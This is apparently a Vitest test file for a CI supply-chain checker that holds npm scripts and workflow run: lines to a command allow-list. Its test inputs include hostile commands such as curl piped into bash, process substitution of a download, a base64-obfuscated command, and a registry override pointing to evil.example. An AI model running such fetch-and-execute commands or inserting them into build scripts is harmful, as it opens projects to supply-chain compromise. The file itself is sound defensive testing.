import { describe, expect, it } from "vitest";
import { ALLOWED_DOWNLOADS, judgeRun } from "./npm-scripts";
import { classify } from "./script-commands";
import { parseShell } from "./shell-parse";

/** The rules a script body breaks when a step runs it. */
const bodyRules = (body: string, exists?: (file: string) => boolean) =>
  judgeRun("npm run x", { x: body }, exists).findings.map((f) => f.rule);

describe("a script body, parsed and held to the command allow-list", () => {
  it.each([
    "npm install left-pad",
    "npm i left-pad",
    "npm inst left-pad",
    "npm isntall left-pad",
    "npm it",
    "npm cit",
    "npm ci",
    "npm update",
    "npm up",
    "npm exec -y cowsay",
    "npm x cowsay",
    "npm --loglevel silent install left-pad",
    "npm init vite",
    "npx cowsay",
    "node_modules/.bin/npx cowsay",
    "env FOO=1 npx cowsay",
    "CI=1 sudo -E npx cowsay",
    "pnpm dlx cowsay",
    "yarn dlx cowsay",
    "bunx cowsay",
    "corepack enable",
    "curl -sSL https://example.com/x.sh",
    "wget https://example.com/x.sh",
    "pip install requests",
    "apt-get install -y jq",
    "playwright install chromium",
    'sh -c "npx cowsay"',
    "timeout 60 npm i left-pad",
    "xargs npx cowsay",
    "eval npm exec cowsay",
    "npm --prefix ../other run build",
    "npm run -w other build",
    'node -e "fetch(1)"',
    "node --require ./x.cjs scripts/a.ts",
    "python3 -c 'import os'",
    'n"p"x cowsay',
    "$(echo bnB4 | base64 -d) cowsay",
    "NODE_OPTIONS=--require=./x.cjs tsc",
    "bash <(curl -s https://x)",
    "tsc > /tmp/out",
    "npm --script-shell=./evil.sh run lint",
    "tsx /tmp/x.ts",
    "tsx ../outside.ts",
  ])("refuses %s", (body) => {
    const rules = bodyRules(body);
    expect(rules.length).toBeGreaterThan(0);
    expect(
      rules.every((r) => r === "script-install" || r === "script-command"),
    ).toBe(true);
  });

  it.each([
    "tsx scripts/x.ts",
    "vitest run",
    "next build",
    "eslint .",
    "prettier --check .",
    "node --import './scripts/workflows/preload.mjs?zod' --import tsx scripts/workflows/gen.ts",
    "bash scripts/deploy-toolset/install.sh",
  ])("lets %s through", (body) => {
    expect(bodyRules(body, () => true)).toEqual([]);
  });

  it("joins quotes as bash does and refuses what is only known at run time", () => {
    expect(parseShell(`n"p"x cowsay && eslint .`)).toEqual({
      ok: true,
      commands: [
        ["npx", "cowsay"],
        ["eslint", "."],
      ],
    });
    expect(parseShell("a | b || c; d")).toMatchObject({
      ok: true,
      commands: [["a"], ["b"], ["c"], ["d"]],
    });
    for (const body of [
      "$(echo x) y",
      "A=1 tsc",
      "x > y",
      "echo *.ts",
      "f() { x; }",
      "(x)",
    ]) {
      expect(parseShell(body).ok).toBe(false);
    }
  });

  it("follows npm run, its aliases and lifecycle shorthands", () => {
    expect(classify(["npm", "run", "lint"])).toEqual({
      kind: "script",
      name: "lint",
    });
    expect(classify(["npm", "run-script", "-s", "lint"])).toEqual({
      kind: "script",
      name: "lint",
    });
    expect(classify(["npm", "test"])).toEqual({ kind: "script", name: "test" });
    expect(classify(["npm", "t"])).toEqual({ kind: "script", name: "test" });
  });

  it("names the repository files a script executes, and refuses a file that does not exist", () => {
    const files = (body: string) =>
      judgeRun("npm run x", { x: body }, (f) => f !== "gone.ts").files;
    expect(files("tsx scripts/a.ts && bash ./b.sh")).toEqual([
      "scripts/a.ts",
      "b.sh",
    ]);
    expect(bodyRules("tsx gone.ts", (f) => f !== "gone.ts")).toEqual([
      "script-command",
    ]);
  });
});

describe("judgeRun: the run: allow-list and the scripts it reaches", () => {
  const rules = (run: string, scripts: Record<string, string>) =>
    judgeRun(run, scripts).findings.map((f) => f.rule);

  it("allows exactly npm ci and npm run <existing script>", () => {
    expect(rules("npm ci", {})).toEqual([]);
    expect(rules("npm run lint", { lint: "eslint ." })).toEqual([]);
    expect(rules("npm run lint", {})).toEqual(["run-script-missing"]);
    for (const run of [
      "npm run lint -- --fix",
      "npm run lint && npm ci",
      "npm install",
      "echo ${{ github.head_ref }}",
      "curl -sSL https://x | bash",
      "npm run $(curl x)",
    ]) {
      expect(rules(run, { lint: "eslint ." })).toEqual(["run-allowed"]);
    }
  });

  it("finds a download through npm run, &&, pre/post hooks and nested scripts", () => {
    const scripts = {
      test: "npm run unit && npm run e2e",
      unit: "vitest run",
      postunit: "curl -sSL https://x/y.sh | bash",
      e2e: "playwright test; npm inst left-pad",
    };
    const found = judgeRun("npm run test", scripts).findings.map(
      (f) => f.message,
    );
    expect(found).toEqual([
      expect.stringMatching(
        /^npm run → test → postunit: "curl -sSL https:\/\/x\/y\.sh" — curl downloads from the network/,
      ),
      expect.stringMatching(
        /^npm run → test → postunit: "bash" — bash {2}runs code that is not a repository file/,
      ),
      expect.stringMatching(
        /^npm run → test → e2e: "npm inst left-pad" — npm inst installs or runs fetched packages;/,
      ),
    ]);
  });

  it("checks the lifecycle scripts npm ci runs (postinstall, prepare)", () => {
    expect(rules("npm ci", { postinstall: "npx husky" })).toEqual([
      "script-install",
    ]);
    expect(
      rules("npm ci", { prepare: "npm run setup", setup: "pnpm dlx x" }),
    ).toEqual(["script-install"]);
  });

  it("reports a script that calls a missing script, and ends on cycles", () => {
    expect(rules("npm run a", { a: "npm run b" })).toEqual([
      "run-script-missing",
    ]);
    expect(rules("npm run a", { a: "npm run b", b: "npm run a" })).toEqual([]);
  });

  it("lets the allowed downloads through only with their exact command", () => {
    const [name, allowed] = Object.entries(ALLOWED_DOWNLOADS)[0] ?? [];
    if (!name || !allowed) throw new Error("no allowed download");
    expect(judgeRun(`npm run ${name}`, { [name]: allowed.command })).toEqual({
      findings: [],
      downloads: [name],
      reached: [{ name, body: allowed.command }],
      files: [],
    });
    expect(
      rules(`npm run ${name}`, { [name]: `${allowed.command} && npx x` }),
    ).toContain("script-install");
  });

  it("lets an adopter's deploy:toolset install its lockfile only as exactly that, with no install scripts", () => {
    const pnpm = (run: string, scripts: Record<string, string>) =>
      judgeRun(run, scripts, () => true, "pnpm").findings.map((f) => f.rule);
    const body = "pnpm install --frozen-lockfile --ignore-scripts";
    expect(pnpm("pnpm run deploy:toolset", { "deploy:toolset": body })).toEqual(
      [],
    );
    expect(
      rules("npm run deploy:toolset", {
        "deploy:toolset": "npm ci --ignore-scripts",
      }),
    ).toEqual([]);
    // Its hooks are still walked: the exemption is the body, not the name.
    expect(
      pnpm("pnpm run deploy:toolset", {
        "deploy:toolset": body,
        "postdeploy:toolset": "pnpm dlx evil",
      }),
    ).toEqual(["script-install"]);
    for (const other of [
      "pnpm install --frozen-lockfile",
      "pnpm install --ignore-scripts",
      `${body} && pnpm dlx x`,
      "pnpm install --frozen-lockfile --ignore-scripts --registry=https://evil.example",
      "npm ci --ignore-scripts",
    ])
      expect(
        pnpm("pnpm run deploy:toolset", { "deploy:toolset": other }),
        other,
      ).not.toEqual([]);
    // The same body under another name is an install like any other.
    expect(pnpm("pnpm run setup-deps", { "setup-deps": body })).toEqual([
      "script-install",
    ]);
  });
});
